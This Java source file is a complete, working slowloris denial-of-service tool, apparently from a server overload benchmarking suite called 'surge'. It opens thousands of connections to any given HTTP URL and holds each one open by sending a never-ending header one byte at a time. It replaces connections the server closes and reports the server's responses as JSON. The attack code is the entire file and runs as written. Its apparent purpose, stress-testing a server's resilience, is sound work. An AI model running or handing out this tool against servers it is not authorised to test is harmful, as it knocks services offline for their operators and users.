package dev.surge.bench;

import picocli.CommandLine;
import picocli.CommandLine.Command;
import picocli.CommandLine.Option;

import java.io.IOException;
import java.io.PrintStream;
import java.lang.management.ManagementFactory;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.ArrayDeque;
import java.util.concurrent.Callable;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;

/**
 * The slowloris attack, for {@code surge bench overload}: holds many connections open by never
 * finishing a request. Each connection sends a request line and its Host header, then one
 * byte of a header that never ends every {@code --interval} seconds. Connections open at most
 * {@code --rate} a second (the ramp, and reconnections: a connection the server closes is
 * replaced while the run lasts). One thread, non-blocking sockets. Counts what the server
 * did: closes, resets, answers by status (408 for a head that came too slowly), refused and
 * timed-out connection attempts. Writes those counts to {@code --status} once a second and,
 * at the end of {@code --duration} or on SIGTERM, prints them as one JSON object.
 * <pre>
 *   connecting ─open─▶ trickling (one header byte per interval) ─FIN/RST/error─▶ closed ─▶ replaced
 *       └─refused, timeout─▶ closed ─▶ replaced
 * </pre>
 */
@Command(name = "slowloris", mixinStandardHelpOptions = true, version = "surge 0.1.0",
        description = "Holds connections open with requests that never finish; prints a JSON summary.")
public final class Slowloris implements Callable<Integer> {
    private static final byte[] HEADER = "X-Slowloris: ".getBytes(StandardCharsets.US_ASCII);
    private static final long CONNECT_TIMEOUT_NANOS = TimeUnit.SECONDS.toNanos(10);

    @Option(names = "--url", required = true, description = "http://host:port/path to attack")
    URI url;

    @Option(names = "--connections", defaultValue = "10000", description = "connections to hold (default: ${DEFAULT-VALUE})")
    int connections;

    @Option(names = "--rate", defaultValue = "2000", description = "most connections opened a second (default: ${DEFAULT-VALUE})")
    int rate;

    @Option(names = "--interval", defaultValue = "1", description = "seconds between a connection's header bytes (default: ${DEFAULT-VALUE})")
    double interval;

    @Option(names = "--duration", defaultValue = "60", description = "seconds to run (default: ${DEFAULT-VALUE})")
    int duration;

    @Option(names = "--status", description = "write the counts to this file once a second (one JSON line)")
    Path status;

    /** What the run was asked to do, for the summary. */
    record Settings(URI url, int connections, int rate, double intervalSeconds, int durationSeconds) {
    }

    /** One connection: its socket, and when its next header byte is due. */
    private static final class Loris {
        final SocketChannel channel;
        final long startedAt;
        boolean open;
        boolean closed;
        boolean answered;
        long nextByteAt;
        int cursor;

        Loris(SocketChannel channel, long startedAt) {
            this.channel = channel;
            this.startedAt = startedAt;
        }
    }

    private final SlowlorisCounts counts = new SlowlorisCounts();
    private final ArrayDeque<Loris> connecting = new ArrayDeque<>();
    /** Open connections in the order their next bytes fall due (every one waits the same interval). */
    private final ArrayDeque<Loris> trickling = new ArrayDeque<>();
    private final ByteBuffer readBuffer = ByteBuffer.allocateDirect(4096);
    private final ByteBuffer oneByte = ByteBuffer.allocateDirect(1);
    private final CountDownLatch finished = new CountDownLatch(1);
    private volatile boolean stopping;
    private volatile Selector selector;
    private InetSocketAddress target;
    private byte[] head;
    private long intervalNanos;

    private final PrintStream out;

    Slowloris(PrintStream out) {
        this.out = out;
    }

    public static void main(String[] args) {
        Slowloris slowloris = new Slowloris(System.out);
        // SIGTERM ends the run early, with the summary printed as at the end of --duration.
        Runtime.getRuntime().addShutdownHook(new Thread(slowloris::stop, "slowloris-stop"));
        int code = commandLine(slowloris).execute(args);
        slowloris.finished.countDown(); // a run that never started has no summary to wait for
        System.exit(code);
    }

    static CommandLine commandLine(Slowloris slowloris) {
        CommandLine cli = new CommandLine(slowloris);
        cli.setParameterExceptionHandler((e, a) -> {
            System.err.println("slowloris: " + e.getMessage() + " (--help lists the flags)");
            return 2;
        });
        return cli;
    }

    /** Ends the run and waits (a while) until the summary is out. */
    void stop() {
        stopping = true;
        Selector s = selector;
        if (s != null) {
            s.wakeup();
        }
        try {
            finished.await(10, TimeUnit.SECONDS);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    @Override
    public Integer call() throws IOException {
        String problem = problem();
        if (problem != null) {
            System.err.println("slowloris: " + problem);
            return 2;
        }
        Settings settings = new Settings(url, connections, rate, interval, duration);
        target = new InetSocketAddress(url.getHost(), url.getPort());
        String path = url.getRawPath() == null || url.getRawPath().isEmpty() ? "/" : url.getRawPath();
        head = ("GET " + path + " HTTP/1.1\r\nHost: " + url.getHost() + ":" + url.getPort() + "\r\n").getBytes(StandardCharsets.US_ASCII);
        intervalNanos = (long) (interval * 1e9);
        selector = Selector.open();
        long start = System.nanoTime();
        try {
            run(settings, start);
        } finally {
            closeAll();
            selector.close();
            out.println(counts.json(settings, (System.nanoTime() - start) / 1e9, true));
            out.flush();
            finished.countDown();
        }
        return 0;
    }

    /** Why the flags cannot work, or null. */
    private String problem() {
        if (!"http".equals(url.getScheme()) || url.getHost() == null || url.getPort() < 1) {
            return "--url wants http://host:port/path with a port, not " + url;
        }
        if (connections < 1 || rate < 1 || !(interval > 0) || duration < 1) {
            return "--connections, --rate, --interval and --duration must be more than 0";
        }
        if (ManagementFactory.getOperatingSystemMXBean() instanceof com.sun.management.UnixOperatingSystemMXBean os
                && os.getMaxFileDescriptorCount() < connections + 100L) {
            return connections + " connections need more open files than this process may have (" + os.getMaxFileDescriptorCount()
                    + "); raise it with ulimit -n or ask for fewer";
        }
        return null;
    }

    private void run(Settings settings, long start) throws IOException {
        long end = start + TimeUnit.SECONDS.toNanos(duration);
        long lastRefill = start;
        double tokens = 0;
        long nextSecond = start + 1_000_000_000L;
        while (!stopping) {
            long now = System.nanoTime();
            if (now >= end) {
                break;
            }
            tokens = Math.min(Math.max(1, rate / 10.0), tokens + (now - lastRefill) * rate / 1e9);
            lastRefill = now;
            while (tokens >= 1 && counts.open + counts.connecting < connections) {
                tokens--;
                connect(now);
            }
            expireConnects(now);
            trickle(now);
            if (now >= nextSecond) {
                nextSecond += 1_000_000_000L;
                counts.openTimeline.add(counts.open);
                writeStatus(settings, (now - start) / 1e9);
            }
            long wait = Math.min(10_000_000L, trickling.isEmpty() ? Long.MAX_VALUE : trickling.peekFirst().nextByteAt - now);
            selector.select(Math.max(1, TimeUnit.NANOSECONDS.toMillis(wait)));
            for (SelectionKey key : selector.selectedKeys()) {
                Loris loris = (Loris) key.attachment();
                if (key.isValid() && key.isConnectable()) {
                    finishConnect(loris, System.nanoTime());
                } else if (key.isValid() && key.isReadable()) {
                    read(loris);
                }
            }
            selector.selectedKeys().clear();
        }
    }

    private void connect(long now) {
        SocketChannel channel = null;
        try {
            channel = SocketChannel.open();
            channel.configureBlocking(false);
            channel.setOption(StandardSocketOptions.TCP_NODELAY, true);
            boolean connected = channel.connect(target);
            Loris loris = new Loris(channel, now);
            counts.connecting++;
            connecting.add(loris);
            if (connected) {
                finishConnect(loris, now);
            } else {
                channel.register(selector, SelectionKey.OP_CONNECT, loris);
            }
        } catch (IOException e) {
            counts.connectFailures++;
            quietClose(channel);
        }
    }

    private void finishConnect(Loris loris, long now) {
        try {
            if (!loris.channel.finishConnect()) {
                return; // not yet: the selector says again when it is
            }
            counts.connecting--;
            loris.open = true;
            counts.opened();
            loris.channel.write(ByteBuffer.wrap(head));
            loris.channel.register(selector, SelectionKey.OP_READ, loris);
            loris.nextByteAt = now + intervalNanos;
            trickling.add(loris);
        } catch (IOException e) {
            if (loris.open) {
                lost(loris, false);
            } else {
                counts.connecting--;
                counts.connectFailures++;
                loris.closed = true;
                quietClose(loris.channel);
            }
        }
    }

    /** Gives up on connection attempts older than the connect timeout. */
    private void expireConnects(long now) {
        while (!connecting.isEmpty()) {
            Loris first = connecting.peekFirst();
            if (first.open || first.closed) {
                connecting.pollFirst();
            } else if (now - first.startedAt > CONNECT_TIMEOUT_NANOS) {
                connecting.pollFirst();
                counts.connecting--;
                counts.connectTimeouts++;
                first.closed = true;
                quietClose(first.channel);
            } else {
                return;
            }
        }
    }

    /** Sends the next header byte on every connection whose byte is due. */
    private void trickle(long now) {
        while (!trickling.isEmpty() && trickling.peekFirst().nextByteAt <= now) {
            Loris loris = trickling.pollFirst();
            if (loris.closed) {
                continue;
            }
            oneByte.clear();
            oneByte.put(loris.cursor < HEADER.length ? HEADER[loris.cursor] : (byte) 'a').flip();
            try {
                if (loris.channel.write(oneByte) == 1) {
                    loris.cursor++;
                    counts.trickled++;
                }
                loris.nextByteAt += intervalNanos;
                trickling.add(loris);
            } catch (IOException e) {
                lost(loris, false);
            }
        }
    }

    /** Reads what the server says: the status of its first answer is counted, the rest ignored. */
    private void read(Loris loris) {
        readBuffer.clear();
        int n;
        try {
            n = loris.channel.read(readBuffer);
        } catch (IOException e) {
            lost(loris, false);
            return;
        }
        if (n < 0) {
            lost(loris, true);
            return;
        }
        if (n > 0 && !loris.answered) {
            loris.answered = true;
            counts.answer(status(readBuffer.flip()));
        }
    }

    /** The status code of a response that starts in {@code b}, or 0 when it does not look like one. */
    static int status(ByteBuffer b) {
        if (b.remaining() < 12 || b.get(0) != 'H' || b.get(8) != ' ') {
            return 0;
        }
        int code = 0;
        for (int i = 9; i < 12; i++) {
            int d = b.get(i) - '0';
            if (d < 0 || d > 9) {
                return 0;
            }
            code = code * 10 + d;
        }
        return code;
    }

    /** An open connection ended: by the server's FIN ({@code byServer}), or a reset or error. */
    private void lost(Loris loris, boolean byServer) {
        if (loris.closed) {
            return;
        }
        loris.closed = true;
        counts.open--;
        if (byServer) {
            counts.closedByServer++;
        } else {
            counts.resets++;
        }
        quietClose(loris.channel);
    }

    private void writeStatus(Settings settings, double elapsed) {
        if (status == null) {
            return;
        }
        try {
            Path tmp = status.resolveSibling(status.getFileName() + ".tmp");
            Files.writeString(tmp, counts.json(settings, elapsed, false) + "\n");
            Files.move(tmp, status, StandardCopyOption.REPLACE_EXISTING, StandardCopyOption.ATOMIC_MOVE);
        } catch (IOException e) {
            System.err.println("slowloris: cannot write " + status + ": " + e.getMessage());
            status = null;
        }
    }

    /** Resets every connection still open (no TIME_WAIT left behind to use up ports). */
    private void closeAll() {
        for (SelectionKey key : selector.keys()) {
            SocketChannel channel = (SocketChannel) key.channel();
            try {
                channel.setOption(StandardSocketOptions.SO_LINGER, 0);
            } catch (IOException e) {
                // closing it anyway
            }
            quietClose(channel);
        }
    }

    private static void quietClose(SocketChannel channel) {
        if (channel == null) {
            return;
        }
        try {
            channel.close();
        } catch (IOException e) {
            // nothing to do
        }
    }
}
